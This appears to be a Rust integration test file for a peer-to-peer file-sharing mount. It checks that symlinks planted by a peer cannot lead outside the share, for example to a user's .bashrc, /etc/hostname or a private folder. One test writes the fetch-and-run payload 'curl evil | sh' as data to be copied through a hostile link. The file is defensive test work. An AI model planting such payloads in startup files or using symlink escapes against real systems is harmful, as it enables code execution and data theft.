//! Symbolic links in a mount: a link of the other side never leads a program of this machine out of
//! the share.

use std::fs;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};

use tandem_core::mount::{Links, MountOptions};
use tandem_tests::mounted::{Mounted, run};
use tandem_tests::universe::Universe;

/// The error of following a link that may not be followed.
const LOOP: Option<i32> = Some(rustix::io::Errno::LOOP.raw_os_error());

/// Makes a link in a mount.
async fn link(mount: &Mounted, target: impl Into<PathBuf>, name: &'static str) {
    let target = target.into();
    let made = mount.within(move |path| symlink(target, path.join(name)));
    made.await.unwrap();
}

/// The target of a link, or the number of the error.
async fn text_of(mount: &Mounted, name: &'static str) -> Result<PathBuf, Option<i32>> {
    let text = mount.within(move |path| fs::read_link(path.join(name)));
    text.await.map_err(|error| error.raw_os_error())
}

#[tokio::test]
#[ignore = "needs fuse"]
async fn copying_to_a_link_of_the_peer_writes_nothing_outside_of_the_mount() {
    let universe = Universe::new().await;
    let (alices, bobs) = (universe.alice.mount().await, universe.bob.mount().await);
    let startup = universe.alice.write(".bashrc", b"mine\n");
    bobs.write("draft.txt", b"curl evil | sh\n").await;
    link(&bobs, &startup, "notes.txt").await;
    alices.reads("draft.txt", b"curl evil | sh\n").await;
    alices.shows("notes.txt").await;
    let mut copy = alices.command("cp");
    let copied = copy.args(["draft.txt", "notes.txt"]).output().await.unwrap();
    assert!(!copied.status.success());
    assert_eq!(fs::read(&startup).unwrap(), b"mine\n");
    assert_eq!(text_of(&alices, "notes.txt").await, Err(LOOP));
    universe.close().await;
}

#[tokio::test]
#[ignore = "needs fuse"]
async fn a_link_that_may_not_be_followed_is_shown_renamed_and_removed_as_a_link() {
    let universe = Universe::new().await;
    let (alices, bobs) = (universe.alice.mount().await, universe.bob.mount().await);
    link(&bobs, "/etc/hostname", "out").await;
    alices
        .tells("out", |stat| stat.is_symlink() && stat.len() == 13)
        .await;
    let kinds = alices.within(|path| {
        let entries = fs::read_dir(path).unwrap();
        entries
            .map(|entry| entry.unwrap().file_type().unwrap().is_symlink())
            .collect::<Vec<_>>()
    });
    assert_eq!(kinds.await, [true]);
    alices.rename("out", "moved").await;
    bobs.shows("moved").await;
    alices.remove("moved").await;
    bobs.misses("moved").await;
    universe.close().await;
}

#[tokio::test]
#[ignore = "needs fuse"]
async fn links_of_the_peer_within_the_share_are_followed() {
    let universe = Universe::new().await;
    let (alices, bobs) = (universe.alice.mount().await, universe.bob.mount().await);
    // The layout of package managers: links to folders, and links through those links.
    bobs.mkdir("node_modules/.bin").await;
    bobs.mkdir("node_modules/.store/pkg").await;
    bobs.write("node_modules/.store/pkg/run", b"#!/bin/sh\necho ran\n")
        .await;
    link(&bobs, ".store/pkg", "node_modules/pkg").await;
    link(&bobs, "../pkg/run", "node_modules/.bin/run").await;
    alices
        .reads("node_modules/.bin/run", b"#!/bin/sh\necho ran\n")
        .await;
    let ran = run(alices.command("sh").arg("node_modules/.bin/run")).await;
    assert_eq!(ran.stdout, b"ran\n");
    universe.close().await;
}

#[tokio::test]
#[ignore = "needs fuse"]
async fn a_link_of_the_peer_does_not_lead_out_through_a_link_of_ours() {
    let universe = Universe::new().await;
    let (alices, bobs) = (universe.alice.mount().await, universe.bob.mount().await);
    universe.alice.write("private/id", b"secret");
    link(&alices, universe.alice.original("private"), "home").await;
    bobs.shows("home").await;
    link(&bobs, "home/id", "id").await;
    alices.shows("id").await;
    assert_eq!(alices.read("home/id").await, b"secret");
    let error = alices.try_read("id").await.unwrap_err();
    assert_eq!(error.raw_os_error(), LOOP);
    universe.close().await;
}

#[tokio::test]
#[ignore = "needs fuse"]
async fn a_link_in_an_open_folder_that_the_peer_moves_deeper_does_not_lead_out() {
    let universe = Universe::new().await;
    let (alices, bobs) = (universe.alice.mount().await, universe.bob.mount().await);
    bobs.mkdir("x/y").await;
    bobs.mkdir("a").await;
    bobs.write("a/file", b"").await;
    // From `a` the link leads out, beside alice's mount; from `x/y/a` it stays within the share.
    link(&bobs, "../../loot", "a/link").await;
    alices.shows("a/link").await;
    let folder = alices
        .within(|path| fs::File::open(path.join("a")))
        .await
        .unwrap();
    bobs.rename("a", "x/y/a").await;
    // Ask her catalog and not her mount, which would tell the kernel where the folder is now.
    universe.alice.lists("x/y/a/file").await;
    let followed = alices.within(move |path| {
        let beside = path.parent().unwrap().join("loot");
        fs::write(&beside, b"beside the mount").unwrap();
        let opened = rustix::fs::openat(
            &folder,
            "link",
            rustix::fs::OFlags::RDONLY,
            rustix::fs::Mode::empty(),
        );
        fs::remove_file(beside).unwrap();
        opened.map(drop)
    });
    assert_eq!(followed.await, Err(rustix::io::Errno::LOOP));
    universe.close().await;
}

#[tokio::test]
#[ignore = "needs fuse"]
async fn a_mount_that_trusts_the_peer_follows_its_links_anywhere() {
    let universe = Universe::new().await;
    let alices = universe
        .alice
        .mount_with(MountOptions::default().links(Links::Anywhere))
        .await;
    let bobs = universe.bob.mount().await;
    let outside = universe.alice.write("outside.txt", b"outside");
    link(&bobs, &outside, "link").await;
    alices.reads("link", b"outside").await;
    assert_eq!(text_of(&alices, "link").await.as_deref(), Ok(Path::new(&outside)));
    universe.close().await;
}

#[tokio::test]
#[ignore = "needs fuse, root"]
async fn a_mount_that_follows_no_links_still_shows_their_targets() {
    let universe = Universe::new().await;
    let alices = universe
        .alice
        .mount_with(MountOptions::default().links(Links::Nowhere))
        .await;
    alices.write("file", b"here").await;
    link(&alices, "file", "link").await;
    assert_eq!(text_of(&alices, "link").await.as_deref(), Ok(Path::new("file")));
    let error = alices.try_read("link").await.unwrap_err();
    assert_eq!(error.raw_os_error(), LOOP);
    assert_eq!(alices.read("file").await, b"here");
    universe.close().await;
}
